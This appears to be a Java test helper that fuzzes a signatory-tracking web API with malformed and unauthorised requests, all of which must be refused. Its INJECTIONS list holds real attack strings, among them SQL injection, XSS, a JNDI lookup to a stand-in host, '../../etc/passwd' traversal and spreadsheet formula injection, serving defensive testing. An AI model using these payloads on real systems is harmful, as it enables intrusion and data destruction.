package org.signatorytracker.security;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.function.Supplier;

/**
 * Generates malformed and hostile requests from a seed, each of them certain to be refused: wrong
 * types, missing fields, huge values, impossible dates, unknown enums, injection strings, invalid
 * UTF-8, wrong content types, duplicate keys, bad parameters and callers without the right.
 * Injection strings ride along with a definite defect, so that a request that got through would
 * show up as a change to the database. Values Jackson would coerce by default (numbers to enums or
 * text, fractions to integers, objects to dates, trailing data) must be refused, not converted.
 */
final class HostileRequests {

  /** One request: who sends it, what, and a description for the failure message. */
  record Attack(
      String caller, String method, String path, String contentType, byte[] body, String what) {}

  static final String[] INJECTIONS = {
    "'; DROP TABLE statement; --",
    "\" OR \"1\"=\"1",
    "1 OR 1=1",
    "<script>alert(1)</script>",
    "${jndi:ldap://x/a}",
    "../../etc/passwd",
    "=HYPERLINK(\"http://x\")",
    "%00%0d%0a",
    "\u0000\u202e\uFEFF",
    "Robert'); DELETE FROM position_record;--",
  };

  private final SplittableRandom random;
  private final String statement;
  private final long record;
  private int serial;

  HostileRequests(long seed, String existingStatement, long existingRecord) {
    this.random = new SplittableRandom(seed);
    this.statement = existingStatement;
    this.record = existingRecord;
  }

  List<Attack> generate(int count) {
    List<Supplier<Attack>> kinds =
        List.of(
            this::badStatement,
            this::badStatementUpdate,
            this::badPosition,
            this::badRetraction,
            this::badImport,
            this::badAccount,
            this::badQuery,
            this::wrongCaller,
            this::wrongContentType,
            this::brokenBytes,
            this::coercedValue,
            this::hostileText,
            this::pageOverflow);
    List<Attack> attacks = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      attacks.add(kinds.get(random.nextInt(kinds.size())).get());
    }
    return attacks;
  }

  private String injection() {
    return INJECTIONS[random.nextInt(INJECTIONS.length)];
  }

  private String freshKey() {
    return "fuzz-" + Long.toString(random.nextLong() & Long.MAX_VALUE, 36) + "-" + serial++;
  }

  private static String json(String value) {
    StringBuilder s = new StringBuilder("\"");
    for (char c : value.toCharArray()) {
      switch (c) {
        case '"' -> s.append("\\\"");
        case '\\' -> s.append("\\\\");
        default -> {
          if (c < 0x20) {
            s.append(String.format("\\u%04x", (int) c));
          } else {
            s.append(c);
          }
        }
      }
    }
    return s.append('"').toString();
  }

  /** A JSON field with a value that is certainly wrong for it. */
  private String[] defect(String field, String kind) {
    return switch (random.nextInt(8)) {
      case 0 ->
          new String[] {field, "{\"nested\": " + json(injection()) + "}", kind + " as an object"};
      case 1 -> new String[] {field, "[1, 2, 3]", kind + " as a list"};
      case 2 ->
          new String[] {field, json("x".repeat(5_000 + random.nextInt(50_000))), "huge " + kind};
      case 3 -> new String[] {field, "true", kind + " as a boolean"};
      case 4 ->
          new String[] {"unknownField" + random.nextInt(9), json(injection()), "unknown field"};
      case 5 -> new String[] {field, json(injection()), "injection in " + kind};
      case 6 -> new String[] {field, "null", "null " + kind};
      default -> new String[] {field, "12345678901234567890123456789", "huge number in " + kind};
    };
  }

  private String badDate() {
    String[] dates = {
      "2019-02-30",
      "2019-13",
      "2019-00-10",
      "1899-01-01",
      "2101",
      "2019-7-1",
      "19",
      "2019-07-18T00:00:00Z",
      "July 2019",
      "",
      "2019/07/18",
      "20190718",
      "-2019"
    };
    return dates[random.nextInt(dates.length)];
  }

  /** A bad date for a CSV cell, where an empty one means the sources give no date. */
  private String badCellDate() {
    String date = badDate();
    return date.isEmpty() ? "2019-07-32" : date;
  }

  private Attack badStatement() {
    String key = freshKey();
    String title = json(random.nextBoolean() ? injection() : "A letter");
    String[] defect;
    switch (random.nextInt(6)) {
      case 0 ->
          defect =
              new String[] {
                "kind", json(random.nextBoolean() ? "PETITION" : injection()), "unknown kind"
              };
      case 1 -> defect = new String[] {"date", json(badDate()), "bad date"};
      case 2 -> defect = new String[] {"key", json(injection()), "injection in key"};
      case 3 ->
          defect = new String[] {"leadStates", "[" + json(injection()) + "]", "unknown lead state"};
      case 4 ->
          defect =
              new String[] {"reportedCount", random.nextBoolean() ? "-5" : "\"many\"", "bad count"};
      default -> defect = defect("title", "title");
    }
    String body =
        "{\"key\":"
            + json(key)
            + ",\"title\":"
            + title
            + ",\"kind\":\"LETTER\""
            + ("key".equals(defect[0]) || "title".equals(defect[0]) || "kind".equals(defect[0])
                ? ",\"" + defect[0] + "2\":" + defect[1] + ",\"" + defect[0] + "\":" + defect[1]
                : ",\"" + defect[0] + "\":" + defect[1])
            + "}";
    if (random.nextInt(5) == 0) {
      body =
          "{\"key\":"
              + json(key)
              + ",\"key\":"
              + json(key + "x")
              + ",\"title\":"
              + title
              + ",\"kind\":\"LETTER\"}";
      defect[2] = "duplicate key";
    }
    return new Attack(
        "editor",
        "POST",
        "/api/statements",
        "application/json",
        utf8(body),
        "create statement: " + defect[2]);
  }

  private Attack badStatementUpdate() {
    String body =
        switch (random.nextInt(4)) {
          case 0 ->
              "{\"key\":"
                  + json(statement)
                  + ",\"title\":"
                  + json(injection())
                  + ",\"kind\":\"VOTER\"}";
          case 1 -> "{\"key\":" + json(injection()) + ",\"title\":\"x\",\"kind\":\"LETTER\"}";
          case 2 -> "{\"key\":" + json(statement) + ",\"kind\":\"LETTER\"}";
          default ->
              "{\"key\":"
                  + json(statement)
                  + ",\"title\":\"x\",\"kind\":\"LETTER\","
                  + "\"date\":"
                  + json(badDate())
                  + "}";
        };
    return new Attack(
        "editor",
        "PUT",
        "/api/statements/" + statement,
        "application/json",
        utf8(body),
        "update statement");
  }

  private Attack badPosition() {
    String state = json(random.nextInt(3) == 0 ? injection() : "France");
    String action = "\"SIGNED\"";
    String date = "\"2020-01-01\"";
    String sources = "[{\"url\":\"https://example.org/r\"}]";
    String extra = "";
    String what;
    switch (random.nextInt(8)) {
      case 0 -> {
        state = json(injection());
        what = "injection as state";
      }
      case 1 -> {
        action = json(random.nextBoolean() ? "YES" : "SIGN");
        what = "action that does not fit";
      }
      case 2 -> {
        date = json(badDate());
        what = "bad date";
      }
      case 3 -> {
        sources = random.nextBoolean() ? "[]" : "\"https://example.org\"";
        what = "no source";
      }
      case 4 -> {
        sources = "[{\"url\":" + json("javascript:alert(1)") + "}]";
        what = "script URL";
      }
      case 5 -> {
        StringBuilder many = new StringBuilder("[");
        for (int i = 0; i < 21 + random.nextInt(100); i++) {
          many.append(i == 0 ? "" : ",")
              .append("{\"url\":\"https://e.org/")
              .append(i)
              .append("\"}");
        }
        sources = many.append(']').toString();
        what = "too many sources";
      }
      case 6 -> {
        extra = ",\"confidence\":" + json(random.nextBoolean() ? "SURE" : injection());
        what = "unknown confidence";
      }
      default -> {
        extra = ",\"reported\":" + json(badDate()) + ",\"note\":" + json("n".repeat(4_001));
        what = "bad reported date and long note";
      }
    }
    String body =
        "{\"state\":"
            + state
            + ",\"action\":"
            + action
            + ",\"date\":"
            + date
            + ",\"sources\":"
            + sources
            + extra
            + "}";
    String path =
        random.nextInt(6) == 0
            ? "/api/statements/" + encode(injection()) + "/positions"
            : "/api/statements/" + statement + "/positions";
    return new Attack(
        "editor", "POST", path, "application/json", utf8(body), "record position: " + what);
  }

  private Attack badRetraction() {
    return switch (random.nextInt(4)) {
      case 0 ->
          new Attack(
              "editor",
              "POST",
              "/api/positions/" + record + "/retraction",
              "application/json",
              utf8("{\"reason\":\"   \"}"),
              "blank reason");
      case 1 ->
          new Attack(
              "editor",
              "POST",
              "/api/positions/" + record + "/retraction",
              "application/json",
              utf8("{\"reason\":" + json("r".repeat(2_001)) + "}"),
              "long reason");
      case 2 ->
          new Attack(
              "editor",
              "POST",
              "/api/positions/" + encode(injection()) + "/retraction",
              "application/json",
              utf8("{\"reason\":\"x\"}"),
              "injection as record id");
      default ->
          new Attack(
              "editor",
              "POST",
              "/api/positions/" + record + "/retraction",
              "application/json",
              utf8("{\"reason\":" + json(injection()) + ",\"why\":1}"),
              "unknown field in retraction");
    };
  }

  private Attack badImport() {
    String header = "statement,state,action,date,source_url,note\n";
    String good = statement + ",France,SIGNED,2020-01-01,https://e.org," + csv(injection()) + "\n";
    return switch (random.nextInt(5)) {
      case 0 ->
          new Attack(
              "editor",
              "POST",
              "/api/import/positions",
              "text/csv",
              utf8(
                  header
                      + good
                      + statement
                      + ","
                      + csv(injection())
                      + ",SIGNED,2020-01-01,https://e.org,\n"),
              "import with an unknown state");
      case 1 ->
          new Attack(
              "editor",
              "POST",
              "/api/import/positions",
              "text/csv",
              utf8(
                  header
                      + good
                      + statement
                      + ",Chile,SIGNED,"
                      + badCellDate()
                      + ",https://e.org,\n"),
              "import with a bad date");
      case 2 ->
          new Attack(
              "editor",
              "POST",
              "/api/import/statements",
              "text/csv",
              utf8("key,title,kind\n" + csv(injection()) + ",T,LETTER\n"),
              "import a bad key");
      case 3 ->
          new Attack(
              "editor",
              "POST",
              "/api/import",
              "application/zip",
              utf8("PK not really a zip " + injection()),
              "garbage zip");
      default ->
          new Attack(
              "editor",
              "POST",
              "/api/import/positions?dryRun=" + encode(injection()),
              "text/csv",
              utf8(header + good),
              "bad dryRun");
    };
  }

  private Attack badAccount() {
    return switch (random.nextInt(4)) {
      case 0 ->
          new Attack(
              "admin",
              "POST",
              "/api/users",
              "application/json",
              utf8(
                  "{\"name\":" + json(freshKey()) + ",\"password\":\"short\",\"role\":\"reader\"}"),
              "short password");
      case 1 ->
          new Attack(
              "admin",
              "POST",
              "/api/users",
              "application/json",
              utf8(
                  "{\"name\":"
                      + json(injection())
                      + ",\"password\":\"long enough password\","
                      + "\"role\":\"reader\"}"),
              "injection as account name");
      case 2 ->
          new Attack(
              "admin",
              "POST",
              "/api/users",
              "application/json",
              utf8(
                  "{\"name\":"
                      + json(freshKey())
                      + ",\"password\":\"long enough password\","
                      + "\"role\":"
                      + json(random.nextBoolean() ? "root" : injection())
                      + "}"),
              "unknown role");
      default ->
          new Attack(
              "admin",
              "PUT",
              "/api/users/" + encode(injection()),
              "application/json",
              utf8("{\"role\":\"admin\"}"),
              "update an account that does not exist");
    };
  }

  private Attack badQuery() {
    String[] queries = {
      "/api/statements/" + statement + "/count?asOf=" + encode(injection()),
      "/api/statements/" + statement + "/signatories?knownBy=" + encode(badDate() + "x"),
      "/api/statements/" + statement + "/count?minConfidence=" + encode(injection()),
      "/api/statements/" + statement + "/count?by=" + encode(injection()),
      "/api/statements/" + statement + "/timeline?knownBy=2019-02-30",
      "/api/statements?size=" + (random.nextBoolean() ? "0" : "100000"),
      "/api/statements?page=-1",
      "/api/statements?from=" + encode(injection()),
      "/api/statements?kind=" + encode(injection()),
      "/api/statements/" + encode(injection()),
      "/api/statements/" + encode(injection()) + "/count",
      "/api/states/" + encode(injection()),
      "/api/states?group=" + encode(injection()),
      "/api/compare?a=" + statement,
      "/api/compare?a=" + statement + "&b=" + encode(injection()),
      "/api/export/positions.csv?includeRetracted=" + encode(injection()),
      "/api/statements/" + statement + "/count?format=" + encode(injection()),
      "/api/audit?since=" + encode(injection()),
    };
    String path = queries[random.nextInt(queries.length)];
    String caller = path.startsWith("/api/audit") ? "admin" : "anonymous";
    return new Attack(caller, "GET", path, null, null, "bad query");
  }

  private Attack wrongCaller() {
    String body = "{\"key\":" + json(freshKey()) + ",\"title\":\"Real\",\"kind\":\"LETTER\"}";
    return switch (random.nextInt(5)) {
      case 0 ->
          new Attack(
              "anonymous",
              "POST",
              "/api/statements",
              "application/json",
              utf8(body),
              "anonymous write");
      case 1 ->
          new Attack(
              "reader", "POST", "/api/statements", "application/json", utf8(body), "reader write");
      case 2 ->
          new Attack(
              "editor",
              "POST",
              "/api/users",
              "application/json",
              utf8(
                  "{\"name\":"
                      + json(freshKey())
                      + ",\"password\":\"long enough password\","
                      + "\"role\":\"admin\"}"),
              "editor makes an admin");
      case 3 ->
          new Attack(
              "wrong-password",
              "POST",
              "/api/statements",
              "application/json",
              utf8(body),
              "wrong password");
      default -> new Attack("reader", "GET", "/api/audit", null, null, "reader reads the audit");
    };
  }

  private Attack wrongContentType() {
    String body = "{\"key\":" + json(freshKey()) + ",\"title\":\"Real\",\"kind\":\"LETTER\"}";
    String[] types = {
      "text/plain", "application/xml", "text/csv", "application/x-www-form-urlencoded"
    };
    return switch (random.nextInt(3)) {
      case 0 ->
          new Attack(
              "editor",
              "POST",
              "/api/statements",
              types[random.nextInt(types.length)],
              utf8(body),
              "wrong content type");
      case 1 ->
          new Attack(
              "editor",
              "POST",
              "/api/import/positions",
              "application/json",
              utf8("{}"),
              "JSON to the CSV import");
      default ->
          new Attack(
              "editor",
              random.nextBoolean() ? "DELETE" : "PATCH",
              "/api/statements/" + statement,
              "application/json",
              utf8(body),
              "method not allowed");
    };
  }

  private Attack brokenBytes() {
    byte[] invalid = {(byte) 0xC3, (byte) 0x28, (byte) 0xA0, (byte) 0xFF, (byte) 0xFE};
    String key = freshKey();
    return switch (random.nextInt(8)) {
      case 0 ->
          new Attack(
              "editor",
              "POST",
              "/api/statements",
              "application/json",
              concat(
                  utf8("{\"key\":\"" + key + "\",\"title\":\""),
                  invalid,
                  utf8("\",\"kind\":\"LETTER\"}")),
              "invalid UTF-8 in JSON");
      case 1 ->
          new Attack(
              "editor",
              "POST",
              "/api/import/positions",
              "text/csv",
              concat(
                  utf8("statement,state,action,date,source_url\n" + statement + ",Fr"),
                  invalid,
                  utf8(",SIGNED,2020,https://e.org\n")),
              "invalid UTF-8 in CSV");
      case 2 ->
          new Attack(
              "editor",
              "POST",
              "/api/statements",
              "application/json",
              utf8("{\"key\":\"" + key + "\",\"title\":"),
              "truncated JSON");
      case 3 ->
          new Attack(
              "editor",
              "POST",
              "/api/statements",
              "application/json",
              utf8("[".repeat(2_000) + "]".repeat(2_000)),
              "deeply nested JSON");
      default ->
          new Attack(
              "editor", "POST", "/api/statements", "application/json", new byte[0], "empty body");
    };
  }

  /** A value of another JSON type that a lenient parser would convert rather than refuse. */
  private Attack coercedValue() {
    String key = json(freshKey());
    String letter = "{\"key\":" + key + ",\"title\":\"A letter\",\"kind\":\"LETTER\"";
    String[][] statements = {
      {letter + ",\"reportedCount\":1000.9}", "fraction passing @Max as reportedCount"},
      {letter + ",\"reportedCount\":\"12\"}", "count as text"},
      {letter + ",\"reportedCount\":12.0}", "count with a decimal point"},
      {letter + ",\"reportedCount\":1e2}", "count in exponent notation"},
      {"{\"key\":" + key + ",\"title\":\"A letter\",\"kind\":\"2\"}", "kind as ordinal text"},
      {"{\"key\":" + key + ",\"title\":\"A letter\",\"kind\":2}", "kind as ordinal"},
      {"{\"key\":" + key + ",\"title\":true,\"kind\":\"LETTER\"}", "title as a boolean"},
      {"{\"key\":" + key + ",\"title\":42,\"kind\":\"LETTER\"}", "title as a number"},
      {"{\"key\":12345,\"title\":\"A letter\",\"kind\":\"LETTER\"}", "key as a number"},
      {letter + ",\"date\":{\"year\":2019}}", "date as an object"},
      {letter + ",\"date\":[2019,7,12]}", "date as a list"},
      {letter + ",\"date\":20190712}", "date as a number"},
      {letter + "} xyz", "trailing data"},
      {letter + "}{\"key\":\"second\"}", "a second document"},
      {letter + ",}", "trailing comma"},
      {"{'key':" + key + ",'title':'A letter','kind':'LETTER'}", "single quotes"},
      {letter + " /* comment */}", "comment"},
      {letter + ",\"reportedCount\":NaN}", "NaN"},
    };
    String[][] positions = {
      {
        "{\"state\":\"France\",\"action\":1,\"date\":\"2020-01-01\"," + SOURCE + "}",
        "action as ordinal"
      },
      {
        "{\"state\":\"France\",\"action\":\"1\",\"date\":\"2020-01-01\"," + SOURCE + "}",
        "action as ordinal text"
      },
      {
        "{\"state\":250,\"action\":\"SIGNED\",\"date\":\"2020-01-01\"," + SOURCE + "}",
        "state as a number"
      },
      {
        "{\"state\":\"France\",\"action\":\"SIGNED\",\"date\":{\"year\":2019}," + SOURCE + "}",
        "date as an object"
      },
      {
        "{\"state\":\"France\",\"action\":\"SIGNED\",\"date\":\"2020-01-01\","
            + "\"sources\":[{\"url\":true}]}",
        "source URL as a boolean"
      },
      {
        "{\"state\":\"France\",\"action\":\"SIGNED\",\"date\":\"2020-01-01\","
            + "\"sources\":{\"url\":\"https://e.org\"}}",
        "a single source where a list belongs"
      },
    };
    String[][] accounts = {
      {
        "{\"name\":" + key + ",\"password\":\"long enough password\",\"role\":2}", "role as ordinal"
      },
      {
        "{\"name\":" + key + ",\"password\":\"long enough password\",\"role\":\"2\"}",
        "role as ordinal text"
      },
      {
        "{\"name\":" + key + ",\"password\":123456789012345,\"role\":\"reader\"}",
        "password as a number"
      },
    };
    String[][] claims = {
      {"{\"count\":1000.9,\"on\":\"2019-07-26\"," + SOURCE + "}", "fraction passing @Max"},
      {"{\"count\":\"50\",\"on\":\"2019-07-26\"," + SOURCE + "}", "count as text"},
      {"{\"count\":true,\"on\":\"2019-07-26\"," + SOURCE + "}", "count as a boolean"},
      {"{\"count\":50,\"on\":{\"year\":2019}," + SOURCE + "}", "date as an object"},
    };
    return switch (random.nextInt(5)) {
      case 0 -> {
        String[] c = statements[random.nextInt(statements.length)];
        yield new Attack(
            "editor",
            "POST",
            "/api/statements",
            "application/json",
            utf8(c[0]),
            "statement: " + c[1]);
      }
      case 1 -> {
        String[] c = positions[random.nextInt(positions.length)];
        yield new Attack(
            "editor",
            "POST",
            "/api/statements/" + statement + "/positions",
            "application/json",
            utf8(c[0]),
            "position: " + c[1]);
      }
      case 2 -> {
        String[] c = accounts[random.nextInt(accounts.length)];
        yield new Attack(
            "admin", "POST", "/api/users", "application/json", utf8(c[0]), "account: " + c[1]);
      }
      case 3 -> {
        String[] changes = {"{\"disabled\":5}", "{\"disabled\":\"true\"}", "{\"role\":1}"};
        yield new Attack(
            "admin",
            "PUT",
            "/api/users/admin",
            "application/json",
            utf8(changes[random.nextInt(changes.length)]),
            "account change: disabled or role coerced");
      }
      default -> {
        String[] c = claims[random.nextInt(claims.length)];
        yield new Attack(
            "editor",
            "POST",
            "/api/statements/" + statement + "/claims",
            "application/json",
            utf8(c[0]),
            "claim: " + c[1]);
      }
    };
  }

  private static final String SOURCE = "\"sources\":[{\"url\":\"https://example.org/r\"}]";

  /** Text a store, an audit line or a spreadsheet should never receive. */
  private Attack hostileText() {
    String controls = "\u0001\u0007\u001b[2J\u007f";
    return switch (random.nextInt(4)) {
      case 0 ->
          new Attack(
              "editor",
              "POST",
              "/api/statements",
              "application/json",
              utf8(
                  "{\"key\":"
                      + json(freshKey())
                      + ",\"title\":\"A letter\",\"kind\":\"LETTER\",\"summary\":"
                      + json(controls.repeat(1 + random.nextInt(1_500)))
                      + "}"),
              "summary of control characters");
      case 1 ->
          new Attack(
              "editor",
              "POST",
              "/api/statements/" + statement + "/positions",
              "application/json",
              utf8(
                  "{\"state\":\"France\",\"action\":\"SIGNED\",\"date\":\"2020-01-01\","
                      + SOURCE
                      + ",\"note\":"
                      + json("note" + controls)
                      + "}"),
              "control characters in a note");
      case 2 ->
          new Attack(
              "anonymous",
              "GET",
              "/api/statements?q=" + encode("x" + controls),
              null,
              null,
              "control characters in a query parameter");
      default ->
          new Attack(
              "editor",
              "POST",
              "/api/import/statements",
              "text/csv",
              utf8("key,title,kind\n" + freshKey() + "," + csv("T" + controls) + ",LETTER\n"),
              "control characters in a CSV cell");
    };
  }

  /** A page so far out that its first row does not fit in an integer. */
  private Attack pageOverflow() {
    String[] lists = {
      "/api/statements",
      "/api/states",
      "/api/statements/" + statement + "/positions",
      "/api/statements/" + statement + "/claims",
      "/api/states/FRA/records",
    };
    String[][] pages = {
      {"2147483647", "50"},
      {"16777216", "256"},
      {"4294967296", "1"},
      {"99999999999999999999", "10"},
      {"1", "2147483648"}
    };
    String[] page = pages[random.nextInt(pages.length)];
    return new Attack(
        "anonymous",
        "GET",
        lists[random.nextInt(lists.length)] + "?page=" + page[0] + "&size=" + page[1],
        null,
        null,
        "page beyond an integer");
  }

  private static String csv(String value) {
    return "\"" + value.replace("\"", "\"\"") + "\"";
  }

  private static String encode(String value) {
    return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] concat(byte[]... parts) {
    int length = 0;
    for (byte[] part : parts) {
      length += part.length;
    }
    byte[] all = new byte[length];
    int at = 0;
    for (byte[] part : parts) {
      System.arraycopy(part, 0, all, at, part.length);
      at += part.length;
    }
    return all;
  }
}
